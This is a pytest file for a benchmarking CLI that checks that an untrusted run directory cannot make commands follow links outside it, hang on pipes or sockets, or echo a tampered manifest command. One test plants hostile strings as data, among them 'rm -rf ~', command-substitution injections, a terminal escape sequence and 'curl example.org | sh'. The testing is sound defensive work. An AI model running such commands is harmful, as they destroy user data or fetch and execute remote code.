"""A run directory from a stranger: whatever stands in it, nothing outside it changes."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.tree import tree

from .conftest import Command

RUN = ("run", "--method", "painter", "--bench", "squares", "--limit", "2", "--out", "run")
VERBS: tuple[tuple[str, ...], ...] = (
    RUN,
    ("run", *RUN[1:5], "--limit", "3", *RUN[7:]),
    ("status", "run"),
    ("score", "run", "--threshold", "0.5"),
    ("gallery", "run"),
    ("export", "run", "--layout", "flat+csv", "--out", "exported"),
)
# What a command makes and takes away again, or makes only in other runs.
PASSING = (
    ".lock",
    ".scratch",
    ".scores.parquet.tmp",
    ".summary.json.tmp",
    ".manifest.json.tmp",
    ".gallery.unfinished",
    ".gallery.replaced",
    "depth",
    "quarantine.jsonl",
    "rules",
)


@pytest.fixture
def whole(spatialbench: Command, tmp_path: Path) -> Path:
    """A finished run with a gallery, and its copy, to start from again."""
    assert spatialbench(*RUN).status == 0
    assert spatialbench("gallery", "run").status == 0
    shutil.copytree("run", tmp_path / "copy")
    return tmp_path


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("outside")


def _paths(run: Path) -> list[str]:
    """Everything in the run, of the images and the data of one prompt, and the passing names."""
    there = [path.relative_to(run).as_posix() for path in sorted(run.rglob("*"))]
    first = min(path for path in there if path.startswith("images/"))
    kept = [p for p in there if not p.startswith("images/") or p.startswith(first)]
    return list(dict.fromkeys([*kept, *PASSING]))


def _again(folder: Path) -> Path:
    shutil.rmtree(folder / "run", ignore_errors=True)
    shutil.rmtree(folder / "exported", ignore_errors=True)
    shutil.copytree(folder / "copy", folder / "run")
    return folder / "run"


def _plant(run: Path, name: str, outside: Path, kind: str) -> None:
    """Put a link where a file or folder was, to the same content outside, or to nothing."""
    path, target = run / name, outside / "target"
    for old in outside.iterdir():
        shutil.rmtree(old) if old.is_dir() else old.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "content" and path.is_dir():
        shutil.copytree(path, target)
    elif kind == "content" and path.exists():
        shutil.copy(path, target)
    elif kind == "content":
        target.mkdir()
        (target / "detector.json").write_text("{}")
        (target / "0.js").write_text("mine")
    shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    path.symlink_to(target)


@pytest.mark.parametrize("kind", ["content", "nothing"])
def test_no_command_follows_a_link_out_of_the_run(
    whole: Path, outside: Path, spatialbench: Command, kind: str
) -> None:
    for number, name in enumerate(_paths(whole / "copy")):
        run = _again(whole)
        _plant(run, name, outside, kind)
        before = tree(outside)
        # All of them on the names of their own, and of the rest two each in turn.
        verbs = VERBS if name in PASSING else (VERBS[number % 6], VERBS[(number + 1) % 6])
        for verb in verbs:
            outcome = spatialbench(*verb)
            assert outcome.status in (0, 2), (name, verb, outcome.err)
            assert tree(outside) == before, (name, verb)


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _socket(path: Path) -> None:
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        socket.socket(socket.AF_UNIX).bind(path.name)
    finally:
        os.chdir(here)


@pytest.mark.parametrize("plant", [_pipe, _endless, _socket, Path.mkdir])
def test_no_command_waits_for_what_stands_in_place_of_a_file(
    whole: Path, spatialbench: Command, plant: Callable[[Path], None]
) -> None:
    names = [path.relative_to(whole / "copy") for path in (whole / "copy").rglob("*")]
    files = [n for n in names if (whole / "copy" / n).is_file() and n.parts[0] != "gallery"]
    images = [name for name in files if name.parts[0] == "images"]
    for number, name in enumerate([*(f for f in files if f not in images), images[0]]):
        run = _again(whole)
        (run / name).unlink()
        plant(run / name)
        verbs = (RUN, ("status", "run"), ("compare", "run", "copy"), VERBS[3 + number % 3])
        for verb in verbs:
            outcome = spatialbench(*verb)
            assert outcome.status in (0, 2), (name, verb, outcome.err)


def test_a_hard_link_is_not_written_through(
    whole: Path, outside: Path, spatialbench: Command
) -> None:
    for path in sorted((whole / "run").rglob("*")):
        if path.is_file() and "images" not in path.parts:
            os.link(path, outside / path.relative_to(whole).as_posix().replace("/", "_"))
    contents = {path: path.read_bytes() for path in outside.iterdir()}
    for verb in VERBS:
        assert spatialbench(*verb).status == 0
    assert {path: path.read_bytes() for path in outside.iterdir()} == contents


def test_a_copy_of_a_journal_is_nobodys_journal(whole: Path, spatialbench: Command) -> None:
    copies = [whole / "run" / name for name in ("images.backup.jsonl", "images.jsonl.bak")]
    for copy in copies:
        copy.write_bytes((whole / "run" / "images.jsonl").read_bytes() + b"no record\n")
    assert spatialbench(*VERBS[1]).status == 0
    assert all(copy.exists() for copy in copies)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~",
        "spatialbench run; rm -rf ~",
        "spatialbench run $(rm -rf ~)",
        "spatialbench run\nrm -rf ~",
        "spatialbench run \x1b]52;c;cm0K\x07",
        "spatialbench gallery run --out /home",
        "curl example.org | sh #spatialbench run",
        "spatialbench 'run",
        "",
    ],
)
def test_a_foreign_command_is_not_repeated(
    whole: Path, spatialbench: Command, command: str
) -> None:
    path = whole / "run" / "manifest.json"
    manifest = json.loads(path.read_text())
    path.write_text(json.dumps(manifest | {"command": command}))
    shutil.rmtree(whole / "run" / "images")
    outcome = spatialbench("status", "run")
    assert outcome.status == 0
    for hostile in ("rm -rf ~\n", "\x1b", "\x07", "curl", "run;", "--out /home"):
        assert hostile not in outcome.out
    assert "$(rm" not in outcome.out or "'$(rm'" in outcome.out


def test_an_address_is_not_repeated(whole: Path, spatialbench: Command) -> None:
    path = whole / "run" / "manifest.json"
    manifest = json.loads(path.read_text())
    command = "spatialbench run --method painter --address elsewhere:1 --bench squares"
    path.write_text(json.dumps(manifest | {"command": command}))
    shutil.rmtree(whole / "run" / "images")
    assert "give again: spatialbench run --method painter --bench squares" in (
        spatialbench("status", "run").out
    )


def test_a_newer_manifest_names_both_versions(whole: Path, spatialbench: Command) -> None:
    path = whole / "run" / "manifest.json"
    path.write_text(path.read_text().replace('"manifest_version": 1', '"manifest_version": 7'))
    outcome = spatialbench("status", "run")
    assert outcome.status == 2
    assert "version 7" in outcome.err
    assert "version 1" in outcome.err


@pytest.fixture
def altered(whole: Path) -> Path:
    """The run with an image of other bytes, of the same size and the same time."""
    image = min((whole / "run" / "images").rglob("*.png"))
    content, before = bytearray(image.read_bytes()), image.stat()
    content[-20] ^= 1
    image.write_bytes(content)
    os.utime(image, ns=(before.st_atime_ns, before.st_mtime_ns))
    return image


def test_an_altered_image_is_found_by_every_command(
    altered: Path, whole: Path, spatialbench: Command
) -> None:
    outcome = spatialbench("status", "run")
    assert "1 finished image(s) have other bytes" in outcome.err
    assert "3/4" in outcome.out
    outcome = spatialbench("export", "run", "--layout", "flat+csv", "--out", "exported")
    assert "PARTIAL: 3 of 4" in outcome.err
    assert spatialbench("gallery", "run").status == 0
    shown = (whole / "run" / "gallery" / "data" / "0.js").read_text()
    assert shown.count('"src":null') == 1
    assert spatialbench(*RUN).status == 0
    assert (
        altered.read_bytes() == (whole / "copy" / altered.relative_to(whole / "run")).read_bytes()
    )


def test_what_was_seen_in_an_image_that_was_made_again_is_seen_again(
    whole: Path, spatialbench: Command
) -> None:
    """Another processor draws other bytes: the boxes of the lost image are not this one's."""
    run = whole / "run"
    lines = (run / "images.jsonl").read_text().splitlines()
    record = json.loads(lines[0])
    (journal,) = (run / "detections").glob("*/detections.jsonl")
    seen = [json.loads(line) for line in journal.read_text().splitlines()]
    assert seen[0]["image_sha256"] == record["sha256"]
    journal.write_text(
        "".join(
            json.dumps(
                one
                | (
                    {"image_sha256": "0" * 64, "boxes": [], "scores": [], "labels": []}
                    if number == 0
                    else {}
                )
            )
            + "\n"
            for number, one in enumerate(seen)
        )
    )
    outcome = spatialbench("status", "run")
    assert "count as missing" in outcome.err
    assert "3/4" in outcome.out
    assert "3/4" in spatialbench("score", "run").out
    assert spatialbench(*RUN).status == 0
    assert [json.loads(line) for line in journal.read_text().splitlines()] == seen


def test_records_of_0_1_name_no_image_and_count(whole: Path, spatialbench: Command) -> None:
    (journal,) = (whole / "run" / "detections").glob("*/detections.jsonl")
    seen = [json.loads(line) for line in journal.read_text().splitlines()]
    for record in seen:
        del record["image_sha256"]
    text = "".join(json.dumps(record) + "\n" for record in seen)
    journal.write_text(text)
    outcome = spatialbench(*RUN)
    assert outcome.status == 0
    assert "4/4 images, complete" in outcome.err
    assert journal.read_text() == text
